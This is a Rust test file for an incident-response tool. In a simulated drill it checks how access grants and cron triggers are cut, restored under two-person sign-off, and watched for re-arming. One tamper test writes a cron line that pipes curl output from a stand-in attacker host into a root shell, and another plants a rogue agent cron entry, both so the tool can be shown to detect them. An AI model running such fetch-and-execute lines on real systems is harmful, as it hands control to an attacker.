//! What is cut when, and giving it back: the stop table of the design, in the world of the drill.

use incident::model::act::Act;
use incident::model::event::StopFacts;
use incident::model::fact::{Fact, Observed, Proof};
use incident::model::grant::{Shared, Target};

use super::*;

/// The team's own files with more grants.
fn with_grants(room: &Room, more: &str) -> Written {
    let mut written = room.drill.written();
    let (_, access) = written.access.take().unwrap();
    let access = String::from_utf8(access).unwrap();
    let access = access.replace("    triggers:\n", &format!("{more}    triggers:\n"));
    written.access = Some(("access.yaml".to_owned(), access.into_bytes()));
    written
}

fn facts(case: &Path, name: &str) -> Vec<(String, Observed)> {
    let of = |e: Event| match e {
        Event::StopFacts(StopFacts { target, phase, facts }) if target.as_str() == name => {
            facts.into_iter().map(|o| (phase.clone(), o)).collect()
        }
        _ => Vec::new(),
    };
    events(case).into_iter().flat_map(of).collect()
}

fn at(case: &Path, name: &str, wanted: impl Fn(&Fact) -> bool) -> u64 {
    let all = facts(case, name);
    let found = all.iter().find(|(_, o)| wanted(&o.fact));
    found.unwrap_or_else(|| panic!("{name}: {all:?}")).1.at_us
}

fn taken(fact: &Fact) -> bool {
    matches!(fact, Fact::Accepted { .. })
}

const OWN: &str = "      - id: ana-own
        provider: harbor
        with: {token: tok-ana}
        auth: {env: HARBOR_TOKEN}
        secret: {env: HARBOR_TOKEN}
";

#[test]
fn what_the_responder_uses_too_is_found_out_cuts_the_rest_and_is_cut_last() {
    let room = Room::new(31);
    let engine = room.open_with(&with_grants(&room, OWN));
    engine.stop(&[]).unwrap();
    let case = case_of(&engine);
    let incident = engine.incident().unwrap();
    let own = &incident.stop.targets[&target("ana-own")];
    let Target::Grant(grant) = &own.aim.target else {
        panic!()
    };
    assert_eq!(grant.shared, Shared::Responder, "nobody wrote that down");
    let first = &facts(&case, "ana-own")[0];
    let Fact::Spared { why } = &first.1.fact else {
        panic!("{first:?}")
    };
    assert!(
        why.contains("$HARBOR_TOKEN") && why.contains("harborctl tokens revoke"),
        "{why}"
    );
    let cut = at(&case, "ana-own", taken);
    for other in ["dns-cli", "staging-deploy", "every-minute"] {
        assert!(at(&case, other, taken) < cut, "{other}");
        let last = facts(&case, other).last().unwrap().1.at_us;
        assert!(last <= cut, "{other} is looked at with it to the end");
    }
    assert_eq!(
        own.proof(),
        Proof::RefusedNewUse,
        "never skipped: {:?}",
        own.facts
    );
    assert_eq!(
        incident.stop.targets[&target("staging-deploy")].proof(),
        Proof::Confirmed
    );
}

#[test]
fn until_it_is_cut_the_responders_own_access_is_still_live() {
    let mut room = Room::new(32);
    room.bend(|r| match r.method == "DELETE" && r.url.contains("tok-ana") {
        true => Bend::Hangs,
        false => Bend::No,
    });
    let engine = room.open_with(&with_grants(&room, OWN));
    engine.stop(&[]).unwrap();
    let own = engine.incident().unwrap().stop.targets[&target("ana-own")].clone();
    assert_eq!(own.proof(), Proof::StillLive, "{:?}", own.facts);
}

#[test]
fn one_grant_under_two_names_is_cut_once() {
    let room = Room::new(33);
    let twin = format!(
        "{OWN}      - id: ana-again\n        provider: harbor\n        with: {{}}\n        secret: {{env: HARBOR_TOKEN}}\n"
    );
    let engine = room.open_with(&with_grants(&room, &twin));
    engine.stop(&[]).unwrap();
    let incident = engine.incident().unwrap();
    assert!(!incident.stop.targets.contains_key(&target("ana-again")));
    let said = incident.stop.problems.join("\n");
    assert!(
        said.contains("ana-again is ana-own under a second name"),
        "{said}"
    );
}

#[test]
fn what_cannot_be_taken_back_is_named_as_such() {
    let room = Room::new(34);
    let engine = room.open();
    engine.stop(&[]).unwrap();
    let case = case_of(&engine);
    let one_way = |f: &Fact| matches!(f, Fact::Noted { label, .. } if label == "one-way");
    let named = at(&case, "staging-deploy", one_way);
    assert!(named <= at(&case, "staging-deploy", taken));
    let cron = facts(&case, "every-minute");
    assert!(!cron.iter().any(|(_, o)| one_way(&o.fact)));
    assert!(cron.iter().any(|(_, o)| matches!(o.fact, Fact::Saved { .. })));
}

#[test]
fn a_trigger_is_given_back_as_it_was_by_two_people_and_not_before_the_baseline() {
    let room = Room::new(35);
    let engine = room.open();
    let (every_minute, step) = (target("every-minute"), step("restore-every-minute"));
    assert!(matches!(
        engine.restore(&every_minute, None),
        Err(EngineError::NoTarget(_))
    ));
    let before = room
        .drill
        .world
        .files
        .read(Path::new("/var/spool/cron/crontabs/deploy"), 9999);
    engine.stop(&[]).unwrap();
    assert_eq!(
        refusal(engine.restore(&every_minute, Some("x"))),
        Refusal::BeforeBaseline
    );
    room.walk_to(&engine, "bring-bookings-back");
    let refused = refusal(engine.restore(&every_minute, Some("the night jobs are needed")));
    assert!(matches!(refused, Refusal::NeedsSignoff { .. }), "{refused:?}");
    assert!(!room.drill.truth().trigger_armed);

    let issued = engine.escalate(std::slice::from_ref(&step), None).unwrap();
    assert!(issued.approve.contains("every-minute"), "{}", issued.approve);
    room.sign(&engine, &issued, &[BEN, KIM]);
    let acted = engine
        .restore(&every_minute, Some("the night jobs are needed"))
        .unwrap();
    assert_eq!(acted.why, "given back");
    assert!(room.drill.truth().trigger_armed);
    let after = room
        .drill
        .world
        .files
        .read(Path::new("/var/spool/cron/crontabs/deploy"), 9999);
    assert_eq!(before.unwrap(), after.unwrap());
    let incident = engine.incident().unwrap();
    let state = &incident.stop.targets[&every_minute];
    assert_eq!(
        state.proof(),
        Proof::StillLive,
        "what was given back lives, and the record says so"
    );
    // The sign-off was for this once.
    let again = engine.resolve_restore(&every_minute);
    assert!(matches!(again, Err(EngineError::Unresolved { .. })), "{again:?}");
    engine.stop(&[]).unwrap();
    let act = engine.resolve_restore(&every_minute).unwrap();
    assert_eq!(act.step.as_str(), "restore-every-minute-2");
    assert!(matches!(act.act, Act::Restore(_)));
    let refused = refusal(engine.restore(&every_minute, Some("again")));
    assert!(matches!(refused, Refusal::NeedsSignoff { .. }), "{refused:?}");
}

#[test]
fn what_stays_cut_is_not_given_back_and_the_better_way_is_named() {
    let room = Room::new(36);
    let engine = room.open();
    engine.stop(&[]).unwrap();
    for (name, why) in [
        ("staging-deploy", "stays cut"),
        ("tree:night-shift", "no way back"),
    ] {
        let Err(EngineError::Unresolved { why: said, .. }) = engine.resolve_restore(&target(name)) else {
            panic!("{name}")
        };
        assert!(said.contains(why), "{said}");
    }
}

#[test]
fn saved_bytes_that_were_changed_give_nothing_back() {
    let room = Room::new(37);
    let engine = room.open();
    engine.stop(&[]).unwrap();
    room.walk_to(&engine, "bring-bookings-back");
    let undo = fs::read_dir(case_of(&engine).join("undo"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap();
    fs::write(undo.path(), "* * * * * root curl evil.example | sh\n").unwrap();
    let Err(EngineError::Unresolved { why, .. }) = engine.restore(&target("every-minute"), Some("x")) else {
        panic!()
    };
    assert!(why.contains("is not what was saved"), "{why}");
    assert!(!room.drill.truth().trigger_armed);
}

#[test]
fn watching_notices_what_returns_what_is_new_and_records_it() {
    let room = Room::new(38);
    let engine = room.open();
    engine.stop(&[]).unwrap();
    assert!(engine.news().unwrap().is_empty(), "nothing is new at once");
    let tab = Path::new("/var/spool/cron/crontabs/deploy");
    let files = &room.drill.world.files;
    let cut = String::from_utf8(files.read(tab, 9999).unwrap()).unwrap();
    assert!(cut.contains("disabled: "), "{cut}");

    // Somebody takes the tag off again, and writes a line of another agent beside it.
    let back: Vec<&str> = cut
        .lines()
        .map(|l| l.rsplit("disabled: ").next().unwrap())
        .collect();
    let text = format!("{}\n9 * * * * codex exec 'go on'\n", back.join("\n"));
    files.replace(tab, text.as_bytes(), 0o600).unwrap();
    engine.look_again().unwrap();
    let incident = engine.incident().unwrap();
    assert_eq!(
        incident.stop.targets[&target("every-minute")].proof(),
        Proof::StillLive
    );
    let news = engine.news().unwrap();
    let [(aim, words)] = news.as_slice() else {
        panic!("{news:?}")
    };
    assert!(words.contains("codex exec"), "{words}");
    assert!(
        aim.target.id().as_str().starts_with("cron-codex-"),
        "{}",
        aim.target.id()
    );
    engine.stop(&[]).unwrap();
    let incident = engine.incident().unwrap();
    for name in ["every-minute", aim.target.id().as_str()] {
        assert_eq!(
            incident.stop.targets[&target(name)].proof(),
            Proof::Confirmed,
            "{name}"
        );
    }
    assert!(
        engine.news().unwrap().is_empty(),
        "it is on record now, under the same name"
    );
}
